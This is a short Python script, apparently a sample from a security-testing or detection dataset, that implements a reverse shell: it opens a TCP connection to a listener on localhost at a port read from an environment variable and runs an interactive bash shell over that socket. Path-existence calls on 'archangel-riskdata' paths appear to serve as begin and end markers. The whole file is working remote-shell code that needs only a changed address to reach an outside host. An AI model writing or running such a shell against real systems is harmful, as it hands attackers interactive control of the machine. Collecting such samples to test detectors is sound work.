# revshell (python): socket on the listener, subprocess shell with the socket
# as its stdio.
import os, socket, subprocess
port = int(os.environ["RD_PORT"])
os.path.exists("/archangel-riskdata/begin/revshell")
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("127.0.0.1", port))
subprocess.call(["/bin/bash", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
os.path.exists("/archangel-riskdata/end")
